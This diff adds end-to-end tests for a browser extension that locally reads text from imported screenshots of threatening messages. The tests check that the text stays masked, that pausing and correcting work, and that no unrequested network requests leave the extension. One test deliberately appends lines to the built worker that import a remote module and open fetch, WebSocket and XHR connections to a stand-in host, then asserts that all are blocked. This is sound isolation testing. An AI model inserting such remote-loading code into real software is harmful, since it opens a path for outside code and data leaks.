@@ -1,0 +1,152 @@
+import { appendFile, cp, mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { PageHandle } from '../support/browser/pageHandle.ts';
+import { classifyRequests } from '../support/browser/requestLog.ts';
+import { openUserDriver } from '../support/browser/userDriver.ts';
+import { writeToDisk } from '../support/e2e/sampleFiles.ts';
+import { builtDir } from '../support/machine/build.ts';
+import { expect, test } from './fixtures.ts';
+
+const MESSAGES = ['Je sais où tu habites', 'Tu vas le regretter demain', 'Réponds à mes messages'];
+const TIMEOUT_MS = 50_000;
+
+/** Draws messages in bubbles, as a telephone shows them; returns a PNG. */
+async function drawScreen(page: PageHandle, lines: readonly string[]): Promise<Buffer> {
+  const base64 = await page.evaluate(async (texts) => {
+    const canvas = new OffscreenCanvas(1080, 1200);
+    const context = canvas.getContext('2d');
+    if (context === null) throw new Error('no canvas');
+    context.fillStyle = '#efeae2';
+    context.fillRect(0, 0, canvas.width, canvas.height);
+    context.font = '44px sans-serif';
+    for (const [index, text] of texts.entries()) {
+      context.fillStyle = index % 2 ? '#3797f0' : '#ffffff';
+      context.fillRect(40, 80 + index * 200, 900, 120);
+      context.fillStyle = index % 2 ? '#ffffff' : '#111b21';
+      context.fillText(text, 80, 155 + index * 200);
+    }
+    const bytes = new Uint8Array(await (await canvas.convertToBlob({ type: 'image/png' })).arrayBuffer());
+    return btoa(Array.from(bytes, (byte) => String.fromCharCode(byte)).join(''));
+  }, lines);
+  return Buffer.from(base64, 'base64');
+}
+
+/** Presses « Pause » as soon as that many images are read: the driver is slower than the reading. */
+const pauseAfter = (page: PageHandle, count: number): Promise<void> =>
+  page.evaluate(
+    (done) =>
+      new Promise<void>((resolve) => {
+        const pause = () => {
+          if ((document.querySelector('progress')?.value ?? 0) < done) return;
+          observer.disconnect();
+          document.querySelector<HTMLElement>('[data-action="pause-image-texts"]')?.click();
+          resolve();
+        };
+        const observer = new MutationObserver(pause);
+        observer.observe(document.body, { subtree: true, childList: true, attributes: true });
+        pause();
+      }),
+    count,
+  );
+
+/** Imports invented screens; returns the carnet, at the list. */
+async function importScreens(carnet: PageHandle, screens: ReadonlyMap<string, Buffer>): Promise<void> {
+  const files = await writeToDisk(screens);
+  try {
+    await carnet.setInputFiles('#import-files', files.paths);
+    await carnet.waitForVisible('[data-list="files"]');
+    await carnet.click('input[name="image-question"][value="no"]');
+    await carnet.waitForVisible('[data-action="seal"]:not(:disabled)');
+    await carnet.click('[data-action="seal"]');
+    await carnet.waitForVisible('[data-import="done"]', TIMEOUT_MS);
+    await carnet.click('[data-action="see-items"]');
+    await carnet.waitForVisible('[data-list="items"] [data-item]');
+  } finally {
+    await files.remove();
+  }
+}
+
+test('reads the text of imported screenshots, masked, with a pause and a correction, and reaches nothing', async ({
+  user,
+  network,
+}) => {
+  const carnet = await user.driver.openExtensionPage('carnet.html#import');
+  await carnet.waitForVisible('#import-files');
+  const drawn = await drawScreen(carnet, MESSAGES);
+  const names = Array.from({ length: 6 }, (_, index) => `capture-${index}.png`);
+  // A damaged header: imported and kept, never read.
+  const broken = Buffer.from(drawn);
+  broken[29] = (broken[29] ?? 0) ^ 0xff;
+  const screens = names.map((name, index) => [name, Buffer.concat([drawn, Buffer.from([index])])] as const);
+  await importScreens(carnet, new Map([...screens, ['abimee.png', broken]]));
+
+  await carnet.click('[data-route="image-texts"]');
+  await carnet.waitForVisible('[data-action="read-image-texts"]');
+  const status = () => carnet.text('[data-image-texts] [role="status"]');
+  expect(await status()).toContain('6 captures ont une image et pas de texte.');
+  await carnet.click('[data-action="read-image-texts"]');
+  await pauseAfter(carnet, 2);
+  await expect.poll(status).toContain('En pause. Ce qui est lu est gardé.');
+  expect(await status()).toMatch(/ [1-4] captures? /);
+  await carnet.click('[data-action="read-image-texts"]');
+  await expect.poll(status, { timeout: TIMEOUT_MS }).toMatch(/^[1-4] captures sont lues\./);
+  expect(await carnet.has('[data-action="read-image-texts"]')).toBe(false);
+
+  await carnet.click('.back');
+  await carnet.waitForVisible('[data-list="items"] [data-item]');
+  await carnet.click('[data-list="items"] li:last-child [data-item]');
+  await carnet.waitForVisible('[data-image-text] [data-action="reveal"]');
+  const section = () => carnet.text('[data-image-text]');
+  expect(await section()).toContain('Lu par machine, à vérifier.');
+  for (const message of MESSAGES) expect(await section()).not.toContain(message);
+  await carnet.click('[data-image-text] [data-action="reveal"]');
+  await carnet.waitForVisible('.read-lines');
+  for (const message of MESSAGES) expect(await carnet.text('.read-lines')).toContain(message);
+  await carnet.click('[data-action="correct-line"]');
+  await carnet.fill({ 'image-text-line': `${MESSAGES[0]} !` });
+  await expect.poll(() => carnet.text('.read-lines li')).toContain(`${MESSAGES[0]} !`);
+  expect(await carnet.text('.read-lines li')).toContain('corrigé par vous');
+  expect(classifyRequests(network.contacts(), []).unasked).toEqual([]);
+});
+
+test('gives the worker that reads images no way to the network, whatever its code does', async ({
+  engine,
+  network,
+}) => {
+  const dir = await mkdtemp(join(tmpdir(), 'recueil-recognition-'));
+  await cp(builtDir(engine), dir, { recursive: true });
+  const attempts = `
+;import('https://ailleurs.example/module.js').catch(() => undefined);
+try { fetch('https://ailleurs.example/fetch'); } catch {}
+try { new WebSocket('wss://ailleurs.example/socket'); } catch {}
+try { const request = new XMLHttpRequest(); request.open('GET', 'https://ailleurs.example/xhr'); request.send(); } catch {}
+`;
+  await appendFile(join(dir, 'recognition/worker.js'), attempts);
+  const user = await openUserDriver({ browser: engine, network, extensionDir: dir });
+  try {
+    const carnet = await user.driver.openExtensionPage('carnet.html#import');
+    await carnet.waitForVisible('#import-files');
+    await importScreens(carnet, new Map([['capture.png', await drawScreen(carnet, MESSAGES)]]));
+    await carnet.click('[data-list="items"] [data-item]');
+    await carnet.waitForVisible('[data-action="read-image-text"]');
+    await carnet.click('[data-action="read-image-text"]');
+    await carnet.waitForVisible('[data-image-text] [data-action="reveal"]', TIMEOUT_MS);
+    expect(classifyRequests(network.contacts(), []).unasked).toEqual([]);
+    const created = await carnet.evaluate(() => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes?: { createPolicy(name: string, rules: object): object };
+      };
+      try {
+        trustedTypes?.createPolicy('another', {});
+        return trustedTypes === undefined ? 'no Trusted Types' : 'created';
+      } catch {
+        return 'refused';
+      }
+    });
+    expect(created).toBe('refused');
+  } finally {
+    await user.close().catch(() => undefined);
+    await rm(dir, { recursive: true, force: true });
+  }
+});
